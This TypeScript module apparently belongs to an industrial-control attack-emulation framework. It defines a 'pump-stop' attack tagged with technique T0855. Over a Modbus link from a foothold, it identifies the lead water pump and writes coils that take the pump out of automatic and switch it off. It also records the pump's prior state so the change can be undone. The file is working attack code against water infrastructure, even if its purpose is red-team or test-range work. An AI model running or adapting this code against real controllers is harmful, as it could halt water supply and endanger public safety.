// T0855 Unauthorized Command Message: a foreign Modbus client takes the lead pump out of automatic and switches it off with function 5.
import { z } from 'zod'
import type { ModbusLink } from '../plc/modbus-link.ts'
import { readBits, readWords, writeCoil } from '../plc/modbus-words.ts'
import { COMMANDS, SETPOINTS } from '../plc/water-registers.ts'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'

const Parameters = z.strictObject({
  pump: z.enum(['lead', '1', '2']).default('lead').describe('The pump that is stopped: the one that leads, or one by number.'),
  insistSeconds: InsistSeconds
})

export const pumpStop = {
  name: 'pump-stop',
  technique: 'T0855',
  parameters: Parameters,
  async aim(foothold, { pump, insistSeconds }) {
    await using link = await foothold.link()
    const number = pump === 'lead' ? await leadOf(link) : pump
    const auto = `pump${number}.auto` as const
    const hand = `pump${number}.hand` as const
    const [wasAuto = true, wasHand = false] = await readBits(link, 1, COMMANDS[auto], 2)
    const write = async (inAuto: boolean, byHand: boolean) => {
      await using own = await foothold.link()
      await writeCoil(own, COMMANDS[auto], inAuto)
      await writeCoil(own, COMMANDS[hand], byHand)
    }
    return { tags: [auto, hand], hosts: [link.host], insistSeconds, strike: () => write(false, false), undo: () => write(wasAuto, wasHand) }
  }
} satisfies Attack<typeof Parameters>

async function leadOf(link: ModbusLink): Promise<'1' | '2'> {
  const [lead] = await readWords(link, 3, SETPOINTS['pump.lead'].address, 1)
  return lead === 2 ? '2' : '1'
}
